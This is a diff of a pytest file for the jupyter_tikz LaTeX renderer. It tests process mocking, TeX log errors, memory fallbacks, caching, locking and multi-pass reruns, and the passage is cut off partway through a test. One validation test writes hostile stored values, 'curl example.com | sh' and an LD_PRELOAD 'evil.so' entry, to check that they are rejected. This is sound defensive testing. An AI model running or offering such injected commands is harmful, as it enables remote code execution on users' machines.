@@ -1,5 +1,9 @@
 import os
 import subprocess
+import sys
+import threading
+import time
+from contextlib import contextmanager
 from hashlib import md5
 from pathlib import Path
 from unittest.mock import ANY
@@ -7,7 +11,7 @@ from unittest.mock import ANY
 import pytest
 from IPython import display
 
-from jupyter_tikz import TexDocument
+from jupyter_tikz import TexDocument, jupyter_tikz
 from tests.conftest import *
 
 # ========================= run_command =========================
@@ -27,8 +31,8 @@ def test_run_command_failure(
     # Arrange
     command = "command"
     mocker.patch.object(
-        subprocess,
-        "run",
+        jupyter_tikz,
+        "_run_process",
         return_value=subprocess.CompletedProcess(command, 1, stdout, stderr),
     )
 
@@ -60,8 +64,8 @@ def tex_document_mock__run_command(
 ):
     command = DUMMY_COMMAND
     mocker.patch.object(
-        subprocess,
-        "run",
+        jupyter_tikz,
+        "_run_process",
         return_value=subprocess.CompletedProcess(
             command, 1, very_long_err_msg_stdout, very_long_err_msg_stderr
         ),
@@ -171,20 +175,23 @@ class TemporaryDirectoryMock:
 
 
 @pytest.fixture
-def tex_document_mock__run_latex(mocker, tex_document, tmpdir):
-    # current_dir = request.fspath.dirname
-    # # env = {"TEXINPUTS": "." + os.pathsep + f"{current_dir}" + os.pathsep * 2}
-    # # mocker.patch.object(
-    # #     tex_document,
-    # #     "_modify_texinputs",
-    # #     return_value=env,
-    # # )
-    # mocker.patch.object(
-    #     tempfile, "TemporaryDirectory", return_value=TemporaryDirectoryMock(tmpdir)
-    # )
+def temp_dir(mocker, tmp_path):
+    """The temporary directory of the renders, `temp` in `tmp_path`."""
+    temp_dir = tmp_path / "temp"
+
+    def make_temp_dir():
+        temp_dir.mkdir()
+        return temp_dir
+
+    mocker.patch.object(jupyter_tikz, "_make_temp_dir", side_effect=make_temp_dir)
+    return temp_dir
+
+
+@pytest.fixture
+def tex_document_mock__run_latex(mocker, tex_document, temp_dir):
     mocker.patch.object(
-        subprocess,
-        "run",
+        jupyter_tikz,
+        "_run_process",
         return_value=subprocess.CompletedProcess("dummy_command", 0, "", ""),
     )
     mocker.patch.object(display, "SVG", return_value="SVG")
@@ -205,7 +212,13 @@ def tex_document_mock__run_latex(mocker, tex_document, tmpdir):
     ],
 )
 def test_run_latex__valid_tex_program(
-    tex_document_mock__run_latex, tmp_path, mocker, tex_program, tex_args, monkeypatch
+    tex_document_mock__run_latex,
+    tmp_path,
+    mocker,
+    tex_program,
+    tex_args,
+    monkeypatch,
+    temp_dir,
 ):
     # Arrange
     monkeypatch.chdir(tmp_path)
@@ -214,12 +227,14 @@ def test_run_latex__valid_tex_program(
 
     spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
 
-    path = Path().resolve() / ANY_CODE_HASH
+    path = temp_dir / ANY_CODE_HASH
 
+    default_args = "-interaction=batchmode -halt-on-error -file-line-error"
+    output_args = f"-output-directory={temp_dir} {path}.tex"
     if tex_args:
-        expected_command = f"{tex_program} {tex_args} {path}.tex"
+        expected_command = f"{tex_program} {default_args} {tex_args} {output_args}"
     else:
-        expected_command = f"{tex_program} {path}.tex"
+        expected_command = f"{tex_program} {default_args} {output_args}"
 
     # Act
     tex_document_mock__run_latex.run_latex(
@@ -227,11 +242,11 @@ def test_run_latex__valid_tex_program(
     )
 
     # Assert
-    spy.assert_any_call(expected_command, ANY)
+    spy.assert_any_call(expected_command, ANY, log_path=path.with_suffix(".log"))
 
 
 def test_pdf_cairo_custom_path(
-    tex_document_mock__run_latex, monkeypatch, mocker, tmp_path
+    tex_document_mock__run_latex, monkeypatch, mocker, tmp_path, temp_dir
 ):
     # Arrange
     monkeypatch.chdir(tmp_path)
@@ -242,7 +257,7 @@ def test_pdf_cairo_custom_path(
         "JUPYTER_TIKZ_PDFTOCAIROPATH",
         pdf_to_cairo_path,
     )
-    output_stem = Path().resolve() / ANY_CODE_HASH
+    output_stem = temp_dir / ANY_CODE_HASH
     full_err = False
 
     spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
@@ -257,12 +272,12 @@ def test_pdf_cairo_custom_path(
 
 
 def test_pdf_cairo_default_path(
-    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch
+    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch, temp_dir
 ):
     # Arrange
     monkeypatch.chdir(tmp_path)
 
-    output_stem = Path().resolve() / ANY_CODE_HASH
+    output_stem = temp_dir / ANY_CODE_HASH
     full_err = False
 
     spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
@@ -278,12 +293,12 @@ def test_pdf_cairo_default_path(
 
 
 def test_pdf_cairo_rasterize(
-    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch
+    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch, temp_dir
 ):
     # Arrange
     monkeypatch.chdir(tmp_path)
 
-    output_stem = Path().resolve() / ANY_CODE_HASH
+    output_stem = temp_dir / ANY_CODE_HASH
     full_err = False
     rasterize = True
     dpi = 300
@@ -305,12 +320,12 @@ def test_pdf_cairo_rasterize(
 
 
 def test_pdf_cairo_rasterize_with_grayscale(
-    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch
+    tex_document_mock__run_latex, mocker, tmp_path, monkeypatch, temp_dir
 ):
     # Arrange
     monkeypatch.chdir(tmp_path)
 
-    output_stem = Path().resolve() / ANY_CODE_HASH
+    output_stem = temp_dir / ANY_CODE_HASH
     full_err = False
     rasterize = True
     dpi = 300
@@ -345,8 +360,8 @@ def test_failed_latex_command(
     # Arrange
     monkeypatch.chdir(tmp_path)
     mocker.patch.object(
-        subprocess,
-        "run",
+        jupyter_tikz,
+        "_run_process",
         side_effect=run_command_fail_side_effect_pdf_latex,
     )
 
@@ -359,6 +374,80 @@ def test_failed_latex_command(
     assert "error" in err.lower()
 
 
+TEX_ERROR_LOG = (
+    "This is pdfTeX, Version 3.141592653\n"
+    + "(./file.tex\n" * 30
+    + "./file.tex:3: Undefined control sequence.\n"
+    + "l.3 \\drawx\n"
+    + "Here is how much of TeX's memory you used:\n" * 40
+    + "!  ==> Fatal error occurred, no output PDF file produced!\n"
+)
+
+
+def tex_error_side_effect(*args, **kwargs):
+    _ = kwargs
+    command = args[0]
+    if command.startswith("pdflatex"):
+        Path(command.split()[-1]).with_suffix(".log").write_text(TEX_ERROR_LOG)
+        return subprocess.CompletedProcess(command, 1, "", "")
+    return subprocess.CompletedProcess(command, 0, "", "")
+
+
+@pytest.mark.parametrize("full_err", [False, True])
+def test_failed_latex_command_prints_log_error(
+    tex_document_mock__run_latex, mocker, capsys, monkeypatch, tmp_path, full_err
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=tex_error_side_effect)
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex(full_err=full_err)
+
+    # Assert
+    assert res is None
+    _, err = capsys.readouterr()
+    if full_err:
+        assert err == TEX_ERROR_LOG + "\n"
+    else:
+        assert err.startswith("./file.tex:3: Undefined control sequence.\nl.3")
+        assert len(err.splitlines()) == 20
+
+
+@pytest.mark.parametrize(
+    "log, expected_first_line",
+    [
+        ("line\n" * 30 + "./file.tex:3: Error\n" + "line\n" * 5, "line"),
+        ("line\n" * 30 + "! Emergency stop.\n" + "line\n" * 30, "! Emergency stop."),
+        ("line\n" * 5, "line"),
+    ],
+)
+def test_tex_error(tmp_path, log, expected_first_line):
+    # Arrange
+    log_path = tmp_path / "file.log"
+    log_path.write_text(log)
+
+    # Act
+    res = jupyter_tikz._tex_error(log_path)
+
+    # Assert
+    assert res.splitlines()[0] == expected_first_line
+    assert len(res.splitlines()) == min(20, log.count("\n"))
+
+
+def test_read_log_only_reads_tail(tmp_path):
+    # Arrange
+    log_path = tmp_path / "file.log"
+    log_path.write_text("x" * 100_000 + "! Error")
+
+    # Act
+    res = jupyter_tikz._read_log(log_path)
+
+    # Assert
+    assert len(res) == jupyter_tikz._LOG_TAIL_SIZE
+    assert res.endswith("! Error")
+
+
 def run_command_fail_side_effect_pdftocairo(*args, **kwargs):
     _ = kwargs
     if "pdftocairo" in args[0]:
@@ -372,8 +461,8 @@ def test_passed_latex_but_failed_pdftocairo(
     # Arrange
     monkeypatch.chdir(tmp_path)
     mocker.patch.object(
-        subprocess,
-        "run",
+        jupyter_tikz,
+        "_run_process",
         side_effect=run_command_fail_side_effect_pdftocairo,
     )
 
@@ -404,9 +493,53 @@ def test_run_latex_exeption_cleanup(tmp_path, monkeypatch, mocker):
         spy.assert_called_once()
 
 
+def test_run_latex_concurrent_renders_of_the_same_document(run_mock):
+    # Arrange
+    tex_document = TexDocument(EXAMPLE_GOOD_TEX)
+    other_results = []
+
+    def run(command, **kwargs):
+        if command.startswith("pdftocairo -png"):
+            # Another render of the document, e.g., `--refine` in the background
+            thread = threading.Thread(
+                target=lambda: other_results.append(tex_document.run_latex())
+            )
+            thread.start()
+            thread.join()
+            if not Path(command.split()[-2]).exists():  # The PDF
+                return subprocess.CompletedProcess(command, 1, "", "No PDF")
+        return render_side_effect(command, **kwargs)
+
+    run_mock.side_effect = run
+
+    # Act
+    res = tex_document.run_latex(rasterize=True)
+
+    # Assert
+    assert res is not None
+    assert other_results[0] is not None
+    assert list(Path().iterdir()) == []  # Temporary files are removed
+
+
+@pytest.mark.parametrize("keep_temp", [False, True])
+def test_run_latex_keep_temp(run_mock, keep_temp):
+    # Arrange
+    tex_document = TexDocument(EXAMPLE_GOOD_TEX)
+
+    # Act
+    tex_document.run_latex(keep_temp=keep_temp)
+
+    # Assert
+    kept = sorted(path.name for path in Path().iterdir())
+    hex_hash = tex_document._hex_hash
+    assert kept == (
+        [f"{hex_hash}.pdf", f"{hex_hash}.svg", f"{hex_hash}.tex"] if keep_temp else []
+    )
+
+
 @pytest.mark.parametrize("rasterize", [False, True])
 def test_run_latex_save_image_call(
-    tex_document_mock__run_latex, mocker, tmp_path, rasterize, monkeypatch
+    tex_document_mock__run_latex, mocker, tmp_path, rasterize, monkeypatch, temp_dir
 ):
     monkeypatch.chdir(tmp_path)
 
@@ -427,7 +560,9 @@ def test_run_latex_save_image_call(
     res = tex_document_mock__run_latex.run_latex(save_image=image, rasterize=rasterize)
 
     # Assert
-    tex_document_mock__run_latex._save.assert_called_once_with(image, format)
+    tex_document_mock__run_latex._save.assert_called_once_with(
+        image, format, temp_dir, False
+    )
 
 
 # ========================= texinputs env - no mocks =========================
@@ -738,3 +873,910 @@ def test_jinja_extends_template(tmpdir, monkeypatch):
 
     # Assert
     assert isinstance(res, display.SVG)
+
+
+# ==================== run_latex - TeX capacity exceeded ====================
+
+
+@pytest.fixture
+def tex_fallbacks(monkeypatch):
+    fallbacks = {}
+    monkeypatch.setattr(jupyter_tikz, "_TEX_FALLBACKS", fallbacks)
+    return fallbacks
+
+
+def capacity_exceeded_side_effect(succeeds_with):
+    def side_effect(*args, **kwargs):
+        command = args[0]
+        if command.startswith("pdftocairo"):
+            return subprocess.CompletedProcess(command, 0, "", "")
+
+        env = kwargs.get("env") or {}
+        if succeeds_with(command, env):
+            return subprocess.CompletedProcess(command, 0, "", "")
+
+        log_path = Path(command.split()[-1]).with_suffix(".log")
+        log_path.write_text(
+            "! TeX capacity exceeded, sorry [main memory size=5000000]."
+        )
+        return subprocess.CompletedProcess(command, 1, "", "Error")
+
+    return side_effect
+
+
+def test_run_latex_capacity_exceeded_retries_with_enlarged_memory(
+    tex_document_mock__run_latex, mocker, capsys, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=capacity_exceeded_side_effect(
+            lambda command, env: "extra_mem_top" in env
+        ),
+    )
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res == "SVG"
+    _, err = capsys.readouterr()
+    assert "TeX capacity exceeded. Retrying with `pdflatex` and enlarged memory" in err
+    assert run_mock.call_count == 3
+    assert list(tex_fallbacks.values()) == [
+        ("pdflatex", jupyter_tikz._ENLARGED_TEX_MEMORY)
+    ]
+
+
+def test_run_latex_capacity_exceeded_falls_back_to_lualatex(
+    tex_document_mock__run_latex, mocker, capsys, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=capacity_exceeded_side_effect(
+            lambda command, env: command.startswith("lualatex")
+        ),
+    )
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res == "SVG"
+    _, err = capsys.readouterr()
+    assert "Retrying with `lualatex` (dynamic memory allocation)" in err
+    assert list(tex_fallbacks.values()) == [("lualatex", {})]
+
+
+def test_run_latex_capacity_exceeded_fallback_is_reused(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=capacity_exceeded_side_effect(
+            lambda command, env: command.startswith("lualatex")
+        ),
+    )
+    tex_document_mock__run_latex.run_latex()
+    spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res == "SVG"
+    assert spy.call_count == 2  # Straight to lualatex, then pdftocairo
+    assert spy.call_args_list[0].args[0].startswith("lualatex")
+
+
+def test_run_latex_capacity_exceeded_fallback_is_reused_by_other_processes(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=capacity_exceeded_side_effect(
+            lambda command, env: "extra_mem_top" in env
+        ),
+    )
+    tex_document_mock__run_latex.run_latex()
+    tex_fallbacks.clear()  # e.g., the next run of the CLI
+    spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res == "SVG"
+    assert spy.call_count == 2  # Straight to the enlarged memory, then pdftocairo
+    assert spy.call_args_list[0].kwargs["env"]["extra_mem_top"] == "10000000"
+
+
+@pytest.mark.parametrize(
+    "stored",
+    [
+        '{"program": "curl example.com | sh; pdflatex", "env": {}}',
+        '{"program": "pdflatex", "env": {"LD_PRELOAD": "evil.so"}}',
+        "not json",
+    ],
+)
+def test_run_latex_capacity_exceeded_ignores_invalid_stored_fallbacks(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, tex_fallbacks, stored
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    fallback_key = tex_document_mock__run_latex._cache_key("pdflatex", None)
+    fallback_path = jupyter_tikz._fallback_path(fallback_key)
+    fallback_path.parent.mkdir(parents=True)
+    fallback_path.write_text(stored)
+    spy = mocker.spy(tex_document_mock__run_latex, "_run_command")
+    mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        return_value=subprocess.CompletedProcess("", 0, "", ""),
+    )
+
+    # Act
+    tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert spy.call_args_list[0].args[0].startswith("pdflatex ")
+    assert "env" not in spy.call_args_list[0].kwargs
+    assert tex_fallbacks == {}
+
+
+def test_run_latex_capacity_exceeded_with_lualatex_is_not_retried(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=capacity_exceeded_side_effect(lambda command, env: False),
+    )
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex(tex_program="lualatex")
+
+    # Assert
+    assert res is None
+    assert run_mock.call_count == 1
+    assert tex_fallbacks == {}
+
+
+def test_run_latex_other_errors_are_not_retried(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, tex_fallbacks
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz,
+        "_run_process",
+        side_effect=run_command_fail_side_effect_pdf_latex,
+    )
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert res is None
+    assert run_mock.call_count == 1
+
+
+# =========================== run_latex - cache ===========================
+
+
+@pytest.fixture
+def cache_dir(tmp_path, monkeypatch):
+    cache_dir = tmp_path / "cache"
+    monkeypatch.setenv("XDG_CACHE_HOME", str(cache_dir))
+    return cache_dir / "jupyter-tikz"
+
+
+def test_run_latex_cache(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+    tex_document_mock__run_latex.run_latex(cache=True)
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex(cache=True, save_pdf="saved")
+
+    # Assert
+    assert res == "SVG"
+    assert run_mock.call_count == 2  # Only the first run compiled
+    assert len(list(cache_dir.glob("*.pdf"))) == 1
+    assert len(list(cache_dir.glob("*.svg"))) == 1
+    assert Path("saved.pdf").read_text() == "pdf"
+
+
+def test_run_latex_cache_converts_cached_pdf(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+    tex_document_mock__run_latex.run_latex(cache=True)
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex(cache=True, rasterize=True, dpi=300)
+
+    # Assert
+    assert res == "Image"
+    assert run_mock.call_count == 3
+    assert run_mock.call_args.args[0].startswith("pdftocairo -png")
+    assert len(list(cache_dir.glob("*.300dpi-transp.png"))) == 1
+
+
+@pytest.mark.parametrize(
+    "first_kwargs, second_kwargs",
+    [
+        ({}, {"tex_program": "lualatex"}),
+        ({}, {"tex_args": "--shell-escape"}),
+    ],
+)
+def test_run_latex_cache_key_depends_on_tex_options(
+    tex_document_mock__run_latex,
+    mocker,
+    monkeypatch,
+    tmp_path,
+    cache_dir,
+    first_kwargs,
+    second_kwargs,
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+    tex_document_mock__run_latex.run_latex(cache=True, **first_kwargs)
+
+    # Act
+    tex_document_mock__run_latex.run_latex(cache=True, **second_kwargs)
+
+    # Assert
+    assert run_mock.call_count == 4
+
+
+def test_run_latex_without_cache(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+
+    # Act
+    tex_document_mock__run_latex.run_latex()
+    tex_document_mock__run_latex.run_latex()
+
+    # Assert
+    assert run_mock.call_count == 4
+    assert not cache_dir.exists()
+
+
+def test_cache_dir_shared(monkeypatch, tmp_path):
+    # Arrange
+    monkeypatch.setenv("JUPYTER_TIKZ_CACHEDIR", str(tmp_path / "shared"))
+
+    # Act
+    res = jupyter_tikz._cache_dir()
+
+    # Assert
+    assert res == tmp_path / "shared"
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
+@pytest.mark.parametrize(
+    "shared, expected_dir_mode, expected_file_mode",
+    [(True, 0o2770, 0o640), (False, 0o700, 0o600)],
+)
+def test_store_cached_permissions(
+    monkeypatch, tmp_path, cache_dir, shared, expected_dir_mode, expected_file_mode
+):
+    # Arrange
+    if shared:
+        cache_dir = tmp_path / "shared"
+        monkeypatch.setenv("JUPYTER_TIKZ_CACHEDIR", str(cache_dir))
+    src = tmp_path / "image.svg"
+    src.write_text("image")
+
+    # Act
+    res = jupyter_tikz._store_cached(src, "key.svg")
+
+    # Assert
+    assert res
+    assert (cache_dir / "key.svg").read_text() == "image"
+    assert cache_dir.stat().st_mode & 0o7777 == expected_dir_mode
+    assert (cache_dir / "key.svg").stat().st_mode & 0o777 == expected_file_mode
+
+
+def test_store_cached_is_atomic(mocker, tmp_path, cache_dir):
+    # Arrange
+    src = tmp_path / "image.svg"
+    src.write_text("image")
+    replace_spy = mocker.spy(os, "replace")
+
+    # Act
+    jupyter_tikz._store_cached(src, "key.svg")
+
+    # Assert
+    temp_path = Path(replace_spy.call_args.args[0])
+    assert temp_path.parent == cache_dir
+    assert temp_path.name.startswith(".key.svg.")
+    assert [path.name for path in cache_dir.iterdir()] == ["key.svg"]
+
+
+def test_store_cached_failure(mocker, tmp_path, cache_dir, capsys):
+    # Arrange
+    src = tmp_path / "image.svg"
+    src.write_text("image")
+    mocker.patch.object(os, "replace", side_effect=PermissionError("denied"))
+
+    # Act
+    res = jupyter_tikz._store_cached(src, "key.svg")
+
+    # Assert
+    assert not res
+    assert list(cache_dir.iterdir()) == []
+    assert "Could not write to the render cache: denied" in capsys.readouterr().err
+
+
+def test_restore_cached_evicted_meanwhile(mocker, tmp_path, cache_dir):
+    # Arrange
+    cache_dir.mkdir(parents=True)
+    (cache_dir / "key.svg").write_text("image")
+    mocker.patch.object(jupyter_tikz.shutil, "copyfile", side_effect=FileNotFoundError)
+
+    # Act
+    res = jupyter_tikz._restore_cached("key.svg", tmp_path / "image.svg")
+
+    # Assert
+    assert not res
+
+
+def test_run_latex_cache_rechecks_after_lock(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run_mock = mocker.patch.object(
+        jupyter_tikz, "_run_process", side_effect=render_side_effect
+    )
+    cache_key = tex_document_mock__run_latex._cache_key("pdflatex", None)
+    lock = jupyter_tikz._cache_lock
+
+    @contextmanager
+    def rendered_while_waiting(key):
+        # Another process renders the same document while we wait for the lock
+        cache_dir.mkdir(parents=True, exist_ok=True)
+        (cache_dir / f"{cache_key}.pdf").write_text("pdf")
+        (cache_dir / f"{cache_key}.svg").write_text("image")
+        with lock(key):
+            yield
+
+    mocker.patch.object(jupyter_tikz, "_cache_lock", rendered_while_waiting)
+
+    # Act
+    res = tex_document_mock__run_latex.run_latex(cache=True)
+
+    # Assert
+    assert res == "SVG"
+    assert run_mock.call_count == 0
+
+
+@pytest.mark.skipif(jupyter_tikz.fcntl is None, reason="Needs fcntl")
+def test_cache_lock_is_exclusive(cache_dir):
+    # Arrange
+    events = []
+
+    def wait_lock():
+        with jupyter_tikz._cache_lock("abc"):
+            events.append("second")
+
+    # Act
+    with jupyter_tikz._cache_lock("abc"):
+        thread = threading.Thread(target=wait_lock)
+        thread.start()
+        thread.join(timeout=0.2)
+        events.append("first")
+    thread.join()
+
+    # Assert
+    assert events == ["first", "second"]
+    assert (cache_dir / "locks" / "ab.lock").exists()
+
+
+@pytest.mark.skipif(os.name != "posix", reason="Needs file modes")
+def test_cache_lock_mode_ignores_umask(tmp_path, monkeypatch):
+    # Arrange
+    monkeypatch.setenv("JUPYTER_TIKZ_CACHEDIR", str(tmp_path / "shared"))
+    previous_umask = os.umask(0o077)
+
+    # Act
+    try:
+        with jupyter_tikz._cache_lock("abc"):
+            pass
+    finally:
+        os.umask(previous_umask)
+
+    # Assert
+    mode = (tmp_path / "shared" / "locks" / "ab.lock").stat().st_mode
+    assert mode & 0o777 == 0o640
+
+
+def test_cache_lock_without_access(cache_dir, mocker):
+    # Arrange
+    mocker.patch.object(jupyter_tikz.os, "open", side_effect=PermissionError)
+    events = []
+
+    # Act
+    with jupyter_tikz._cache_lock("abc"):
+        events.append("rendered")
+
+    # Assert
+    assert events == ["rendered"]
+
+
+def test_evict_cache(cache_dir):
+    # Arrange
+    cache_dir.mkdir(parents=True)
+    (cache_dir / "locks").mkdir()
+    for age, name in enumerate(["new.svg", "old.pdf", "older.svg"]):
+        path = cache_dir / name
+        path.write_bytes(b"x" * 400 * 1024)
+        os.utime(path, (time.time() - age * 10, time.time() - age * 10))
+    stale_temp = cache_dir / ".stale.svg.tmp"
+    stale_temp.write_text("partial")
+    os.utime(stale_temp, (0, 0))
+    (cache_dir / ".writing.svg.tmp").write_text("partial")
+
+    # Act
+    jupyter_tikz._evict_cache(max_size=1)
+
+    # Assert
+    assert sorted(path.name for path in cache_dir.iterdir()) == [
+        ".writing.svg.tmp",
+        "locks",
+        "new.svg",
+        "old.pdf",
+    ]
+
+
+def test_evict_cache_subdirectories(cache_dir):
+    # Arrange
+    entries = [
+        cache_dir / "new.svg",
+        cache_dir / "saved" / "old.json",
+        cache_dir / "fallbacks" / "older.json",
+        cache_dir / "aux" / "oldest.aux",
+    ]
+    for age, path in enumerate(entries):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(b"x" * 400 * 1024)
+        os.utime(path, (time.time() - age * 10, time.time() - age * 10))
+
+    # Act
+    jupyter_tikz._evict_cache(max_size=1)
+
+    # Assert
+    assert [path.exists() for path in entries] == [True, True, False, False]
+
+
+def test_new_stable_aux_evicts(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    run, _ = multipass_side_effect(aux="\\newlabel{a}{{1}{1}}\n")
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+    evict_mock = mocker.patch.object(jupyter_tikz, "_evict_cache")
+
+    # Act
+    tex_document_mock__run_latex.run_latex(aux_key="cell")
+    tex_document_mock__run_latex.run_latex(aux_key="cell")
+
+    # Assert
+    evict_mock.assert_called_once_with()  # The `.aux` file is replaced afterwards
+
+
+def test_run_latex_cache_evicts(
+    tex_document_mock__run_latex, mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=render_side_effect)
+    evict_mock = mocker.patch.object(jupyter_tikz, "_evict_cache")
+
+    # Act
+    tex_document_mock__run_latex.run_latex(cache=True)
+    tex_document_mock__run_latex.run_latex(cache=True)
+
+    # Assert
+    evict_mock.assert_called_once_with()  # Nothing is stored in the second run
+
+
+def multipass_side_effect(aux="", rerun_passes=0):
+    passes = []
+
+    def run(*args, **kwargs):
+        _ = kwargs
+        command = args[0]
+        output = Path(command.split()[-1])
+        if not command.startswith("pdftocairo"):
+            passes.append(output)
+            log = "LaTeX Warning: Label(s) may have changed. Rerun to get cross-references right.\n"
+            output.with_suffix(".log").write_text(
+                log if len(passes) <= rerun_passes else ""
+            )
+            output.with_suffix(".aux").write_text(aux)
+        return render_side_effect(*args, **kwargs)
+
+    return run, passes
+
+
+@pytest.mark.parametrize(
+    "aux, rerun_passes, expected_passes",
+    [
+        ("\\relax \n\\gdef \\@abspage@last{1}\n", 0, 1),  # Nothing to resolve
+        ("\\relax \n\\newlabel{eq}{{1}{1}}\n", 0, 2),  # New references
+        ("\\relax \n", 1, 2),  # The log asks for it
+        ("\\relax \n", 5, 3),  # Stops after `max_passes`
+    ],
+)
+def test_run_latex_reruns_only_when_needed(
+    tex_document, mocker, monkeypatch, tmp_path, aux, rerun_passes, expected_passes
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(display, "SVG", return_value="SVG")
+    run, passes = multipass_side_effect(aux, rerun_passes)
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+
+    # Act
+    res = tex_document.run_latex()
+
+    # Assert
+    assert res == "SVG"
+    assert len(passes) == expected_passes
+
+
+def test_run_latex_max_passes(tex_document, mocker, monkeypatch, tmp_path):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(display, "SVG", return_value="SVG")
+    run, passes = multipass_side_effect("\\newlabel{eq}{{1}{1}}\n")
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+
+    # Act
+    tex_document.run_latex(max_passes=1)
+
+    # Assert
+    assert len(passes) == 1
+
+
+def test_run_latex_keeps_aux_per_key(mocker, monkeypatch, tmp_path, cache_dir):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    mocker.patch.object(display, "SVG", return_value="SVG")
+    run, passes = multipass_side_effect("\\newlabel{eq}{{1}{1}}\n")
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex(aux_key="cell-1")
+    edited = TexDocument(EXAMPLE_GOOD_TEX.replace("blue", "red"))
+
+    # Act
+    edited.run_latex(aux_key="cell-1")
+
+    # Assert
+    assert len(passes) == 3  # The edited document converged in one pass
+    assert len(list((cache_dir / "aux").glob("*.aux"))) == 1
+    assert list(tmp_path.glob("*.aux")) == []
+
+
+def test_run_latex_keeps_aux_out_of_shared_cache(
+    mocker, monkeypatch, tmp_path, cache_dir
+):
+    # Arrange
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("JUPYTER_TIKZ_CACHEDIR", str(tmp_path / "shared"))
+    mocker.patch.object(display, "SVG", return_value="SVG")
+    run, _ = multipass_side_effect("\\newlabel{eq}{{1}{1}}\n")
+    mocker.patch.object(jupyter_tikz, "_run_process", side_effect=run)
+
+    # Act
+    TexDocument(EXAMPLE_GOOD_TEX).run_latex(aux_key="cell-1")
+
+    # Assert
+    assert not (tmp_path / "shared" / "aux").exists()
+    assert len(list((cache_dir / "aux").glob("*.aux"))) == 1
+    if os.name == "posix":
+        assert (cache_dir / "aux").stat().st_mode & 0o077 == 0
+
+
+@pytest.mark.parametrize(
+    "code, cosmetic_edit",
+    [
+        ("\\draw (0,0) circle (1);", "  \\draw  (0,0)\tcircle (1);  "),
+        ("\\draw (0,0) circle (1);", "\\draw (0,0) % center\n    circle (1);"),
+        ("a\nb", "a\n% comment\nb"),
+        ("a\n\nb", "a\n  \n\n\nb"),
